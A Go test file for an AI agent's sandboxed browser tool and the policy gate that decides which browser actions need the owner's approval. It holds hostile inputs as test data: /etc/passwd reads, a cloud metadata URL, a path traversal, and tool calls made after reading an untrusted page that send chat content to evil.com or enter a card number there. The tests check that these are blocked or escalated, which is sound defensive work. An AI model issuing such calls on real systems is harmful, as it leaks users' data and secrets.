package tool_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"instar/shared/chat"
	"instar/shared/label"
	"instar/shared/policy"
	"instar/shared/sandbox"
	"instar/shared/sandbox/client"
	"instar/shared/tool"
	"instar/shared/web"
)

// daemon is a container whose browser answers as it is told. It keeps what was
// asked of it.
type daemon struct {
	page    sandbox.Page
	exit    int
	actions []sandbox.Action
	served  int // browsers started
	files   map[string]string
	jobs    []sandbox.Job
	output  map[string]string
	label   label.Label
}

func (d *daemon) open(context.Context) (*client.Client, error) {
	return &client.Client{Key: ed25519.NewKeyFromSeed(make([]byte, 32)), Session: "main", Now: time.Now, Do: func(_, _ string, r *http.Request) (*http.Response, error) {
		w := httptest.NewRecorder()
		d.serve(w, r)
		return w.Result(), nil
	}}, nil
}

func (d *daemon) Join(_ context.Context, l label.Label) (label.Label, error) {
	d.label = label.Join(d.label, l)
	return d.label, nil
}

func (d *daemon) serve(w http.ResponseWriter, r *http.Request) {
	name, isFile := strings.CutPrefix(r.URL.Path, "/v1/files/")
	switch {
	case r.Method == "POST" && r.URL.Path == "/v1/jobs":
		var run sandbox.Run
		json.NewDecoder(r.Body).Decode(&run)
		j := sandbox.Job{ID: run.ID, State: sandbox.Running, Started: time.Now()}
		if len(run.Argv) == 2 && run.Argv[1] == "serve" {
			d.served++
		} else {
			var a sandbox.Action
			json.Unmarshal([]byte(run.Stdin), &a)
			d.actions = append(d.actions, a)
			answer, _ := json.Marshal(d.page)
			j.State, j.Why, j.ExitCode = sandbox.Ended, sandbox.WhyExit, &d.exit
			if d.exit == 0 {
				d.output[run.ID] = string(answer)
			}
			if a.Path != "" {
				d.files[a.Path] = "\x89PNG of the page"
			}
		}
		d.jobs = append(d.jobs, j)
		json.NewEncoder(w).Encode(j)
	case r.URL.Path == "/v1/jobs":
		json.NewEncoder(w).Encode(map[string]any{"jobs": d.jobs})
	case strings.HasSuffix(r.URL.Path, "/output"):
		fmt.Fprint(w, d.output[strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/v1/jobs/"), "/output")])
	case isFile && r.Method == "DELETE":
		delete(d.files, name)
		w.WriteHeader(204)
	case isFile:
		fmt.Fprint(w, d.files[name])
	default:
		w.WriteHeader(404)
	}
}

func newDaemon() *daemon {
	return &daemon{files: map[string]string{}, output: map[string]string{}, label: label.New(label.Owner, label.Private, nil, nil)}
}

// pages is a Renderer of one page.
type pages struct{ asked []string }

func (p *pages) Read(_ context.Context, url string) (string, error) {
	p.asked = append(p.asked, "read "+url)
	return "# Rendered", nil
}
func (p *pages) Screenshot(_ context.Context, url string, full bool) ([]byte, error) {
	p.asked = append(p.asked, fmt.Sprint("screenshot ", url, " ", full))
	return []byte("\x89PNG rendered"), nil
}
func (p *pages) PDF(context.Context, string) ([]byte, error) {
	return nil, errors.New("the page could not be shown (status 422)")
}

type answer struct {
	text  string
	err   error
	files []tool.File
}

var calls int

// use runs one call of a tool, past the gate.
func use(t *testing.T, one tool.Tool, input string) (a answer) {
	t.Helper()
	calls++
	a.text, a.err = one.Run(t.Context(), tool.Call{ID: fmt.Sprint("call", calls), Input: json.RawMessage(input), Label: label.New(label.Owner, label.Private, nil, nil),
		Give: func(_ context.Context, f tool.File) error { a.files = append(a.files, f); return nil }})
	return a
}

func browser(d *daemon, r tool.Renderer) tool.Tool {
	b := tool.Browser{Renderer: r, Check: web.CheckURL, Now: time.Now}
	if d != nil {
		b.Sandbox = &tool.Sandbox{Open: d.open, Label: d}
	}
	return b.Tool()
}

func TestAPageIsShownWithWhatCanBeDoneOnIt(t *testing.T) {
	d := newDaemon()
	d.page = sandbox.Page{URL: "https://shop.com/", Title: "A shop", Text: "# Tea\n\u202eoolong", Bytes: 20, Elements: []sandbox.Element{
		{N: 1, Role: "button", Name: "Order"}, {N: 2, Role: "link", Name: "More", Address: "other.com"}, {N: 3, Role: "field", Name: "Name", Value: "Ann"},
	}}
	b := browser(d, nil)
	a := use(t, b, `{"action":"open","url":"https://shop.com/"}`)
	if a.err != nil {
		t.Fatal(a.err)
	}
	for _, want := range []string{"[https://shop.com/ in a browser, read ", "untrusted", "Title: A shop\n", "# Tea\noolong", "1 button: Order\n", "2 link: More leads to other.com\n", "3 field: Name = Ann\n"} {
		if !strings.Contains(a.text, want) {
			t.Errorf("the model does not see %q in:\n%s", want, a.text)
		}
	}
	if d.served != 1 || len(d.actions) != 1 || d.actions[0].Action != "open" {
		t.Errorf("%d browsers, actions %+v", d.served, d.actions)
	}
	use(t, b, `{"action":"read"}`)
	if d.served != 1 {
		t.Errorf("a second browser was started beside the first")
	}
	if d.label.Integrity != label.Untrusted {
		t.Errorf("with a page in it the workspace is still %v", d.label)
	}
}

func TestAScreenshotGoesToThePersonAndLeavesNothing(t *testing.T) {
	d := newDaemon()
	a := use(t, browser(d, nil), `{"action":"screenshot","url":"https://shop.com/","full":true}`)
	if a.err != nil || len(a.files) != 1 || a.files[0].MediaType != "image/png" || a.files[0].Name != "screenshot.png" || !bytes.HasPrefix(a.files[0].Data, []byte("\x89PNG")) {
		t.Fatalf("%+v", a)
	}
	if len(d.files) > 0 || !d.actions[0].Full {
		t.Errorf("files %v, action %+v", d.files, d.actions[0])
	}
	if a := use(t, browser(d, nil), `{"action":"pdf"}`); a.err != nil || len(a.files) != 1 || a.files[0].MediaType != "application/pdf" {
		t.Errorf("%+v", a)
	}
}

func TestAClickSaysWhatWasAllowed(t *testing.T) {
	d := newDaemon()
	a := use(t, browser(d, nil), `{"action":"fill","element":3,"name":"Name","text":"Ann","enter":true,"site":"https://Shop.com/order"}`)
	if a.err != nil {
		t.Fatal(a.err)
	}
	got := d.actions[0]
	if got.Expect == nil || got.Expect.Host != "shop.com" || got.Expect.Name != "Name" || got.Element != 3 || got.Text != "Ann" || !got.Enter {
		t.Errorf("the browser was told %+v, expecting %+v", got, got.Expect)
	}
}

func TestABrowserIsToldNothingThatMakesNoSense(t *testing.T) {
	d := newDaemon()
	for input, want := range map[string]string{
		`{"action":"open"}`:                                                               "give the url",
		`{"action":"dance"}`:                                                              "action is",
		`{"action":"open","url":"http://127.0.0.1/"}`:                                     "",
		`{"action":"open","url":"file:///etc/passwd"}`:                                    "",
		`{"action":"open","url":"http://169.254.169.254/x"}`:                              "",
		`{"action":"click","element":1,"site":"a.com"}`:                                   "name",
		`{"action":"click","name":"x","site":"a.com"}`:                                    "element",
		`{"action":"click","element":1,"name":"x"}`:                                       "site",
		`{"action":"click","element":1,"name":"x","site":"://"}`:                          "no web address",
		`{"action":"read","text":"x"}`:                                                    "click and fill",
		`{"action":"click","url":"https://a.com/","element":1,"name":"x","site":"a.com"}`: "open the page first",
	} {
		if a := use(t, browser(d, nil), input); a.err == nil || !strings.Contains(a.err.Error(), want) {
			t.Errorf("%s: %v", input, a.err)
		}
	}
	// The path is the program's alone.
	use(t, browser(d, nil), `{"action":"screenshot","path":"../../etc/passwd"}`)
	for _, a := range d.actions {
		if a.Path != "" && !strings.HasPrefix(a.Path, ".browser/act-") {
			t.Errorf("the browser was told to write to %q", a.Path)
		}
	}
	if len(d.actions) != 1 {
		t.Errorf("actions %+v", d.actions)
	}
}

func TestWhatTheBrowserCouldNotDoIsSaid(t *testing.T) {
	d := newDaemon()
	d.page.Error = "the page is another one by now\nread it again"
	if a := use(t, browser(d, nil), `{"action":"read"}`); a.err == nil || a.err.Error() != "the page is another one by now read it again" {
		t.Error(a.err)
	}
	d.exit = 127
	if a := use(t, browser(d, nil), `{"action":"read"}`); a.err == nil || !strings.Contains(a.err.Error(), "no browser in this sandbox's image") {
		t.Error(a.err)
	}
}

func TestARendererIsAskedForPagesThatAreOnlyLookedAt(t *testing.T) {
	d, r := newDaemon(), &pages{}
	b := browser(d, r)
	if a := use(t, b, `{"action":"read","url":"https://a.com/"}`); a.err != nil || !strings.Contains(a.text, "# Rendered") {
		t.Errorf("%+v", a)
	}
	if a := use(t, b, `{"action":"screenshot","url":"https://a.com/","full":true}`); a.err != nil || string(a.files[0].Data) != "\x89PNG rendered" {
		t.Errorf("%+v", a)
	}
	if a := use(t, b, `{"action":"pdf","url":"https://a.com/"}`); a.err == nil || len(a.files) > 0 {
		t.Errorf("%+v", a)
	}
	if len(d.actions) > 0 || strings.Join(r.asked, ", ") != "read https://a.com/, screenshot https://a.com/ true" {
		t.Errorf("asked: %q; actions %+v", r.asked, d.actions)
	}
	use(t, b, `{"action":"open","url":"https://a.com/"}`)
	use(t, b, `{"action":"screenshot"}`)
	if len(d.actions) != 2 {
		t.Errorf("what is clicked through is not looked at where it was: %+v", d.actions)
	}
	alone := browser(nil, r)
	if a := use(t, alone, `{"action":"open","url":"https://a.com/"}`); a.err != nil || !strings.Contains(a.text, "# Rendered") {
		t.Errorf("without a sandbox: %+v", a)
	}
	if bytes.Contains(alone.Schema, []byte("click")) {
		t.Error("without a sandbox the model is told that it can click")
	}
}

// What the gate makes of the browser: looking at what the owner named, and asking
// before anything is done on a page.
func TestTheGateOnABrowser(t *testing.T) {
	b := browser(newDaemon(), nil)
	judge := func(l label.Label, said, input string) policy.Verdict {
		return policy.Judge(policy.Request{Window: policy.NewWindow(l, []policy.Said{{Text: said}}), Role: policy.Owner, Kind: chat.Private,
			Call: policy.Invocation{Tool: b.Name, Input: []byte(input), Manifest: b.Manifest}})
	}
	own, tainted := label.New(label.Owner, label.Private, nil, nil), label.New(label.Untrusted, label.Private, nil, nil)
	for _, c := range []struct {
		l           label.Label
		said, input string
		want        policy.Outcome
	}{
		{own, "look at the shop's page", `{"action":"open","url":"https://shop.com/"}`, policy.Allow},
		{tainted, "open https://shop.com/ and tell me about it", `{"action":"open","url":"https://shop.com/"}`, policy.Allow},
		{tainted, "open https://shop.com/ and tell me about it", `{"action":"read"}`, policy.Allow},
		{tainted, "open https://shop.com/ and tell me about it", `{"action":"open","url":"https://evil.com/?q=what-was-said"}`, policy.Ask},
		{tainted, "open https://shop.com/ and tell me about it", `{"action":"click","element":1,"name":"Order","site":"https://shop.com/"}`, policy.Deny},
		{tainted, "on https://shop.com/ click Order please", `{"action":"click","element":1,"name":"Order","site":"https://shop.com/"}`, policy.Ask},
		{tainted, "on https://shop.com/ fill in the form for me", `{"action":"fill","element":1,"name":"Card","text":"4711","site":"https://evil.com/"}`, policy.Ask},
	} {
		if v := judge(c.l, c.said, c.input); v.Outcome != c.want {
			t.Errorf("%q, %s: %s (%s), want %s", c.said, c.input, v.Outcome, v.Reason, c.want)
		}
	}
	v := judge(tainted, "on https://shop.com/ click Order please", `{"action":"click","element":1,"name":"Order","site":"https://shop.com/"}`)
	if len(v.Destinations) != 1 || v.Destinations[0] != "shop.com" {
		t.Errorf("always would allow %q", v.Destinations)
	}
	secret := judge(label.New(label.Untrusted, label.Secret, nil, nil), "on https://shop.com/ click Order please", `{"action":"fill","element":1,"name":"x","text":"4711","site":"https://shop.com/"}`)
	if secret.Outcome != policy.AskTwice {
		t.Errorf("with something secret read, filling is %s", secret.Outcome)
	}
}

func TestAFileOfTheWorkspaceCanBeGiven(t *testing.T) {
	d := newDaemon()
	d.files["out/chart.png"] = "\x89PNG"
	d.files["empty.txt"] = ""
	s := tool.Sandbox{Open: d.open, Label: d}
	var read tool.Tool
	for _, one := range s.Tools() {
		if one.Name == "sandbox_read" {
			read = one
		}
	}
	a := use(t, read, `{"path":"out/chart.png","give":true}`)
	if a.err != nil || len(a.files) != 1 || a.files[0].Name != "chart.png" || a.files[0].MediaType != "image/png" {
		t.Errorf("%+v", a)
	}
	if a := use(t, read, `{"path":"empty.txt","give":true}`); a.err == nil || len(a.files) > 0 {
		t.Errorf("%+v", a)
	}
	// Whatever it is called, a platform takes it.
	d.files["out/a\\b\"\r\n.txt"] = "x"
	if a := use(t, read, `{"path":"out/a\\b\"\r\n.txt","give":true}`); a.err != nil || a.files[0].Name != "a_b___.txt" {
		t.Errorf("%+v", a)
	}
	d.files["big.bin"] = strings.Repeat("x", tool.MaxGiven+1)
	if a := use(t, read, `{"path":"big.bin","give":true}`); a.err == nil || !strings.Contains(a.err.Error(), "10 MB") {
		t.Errorf("%v", a.err)
	}
}
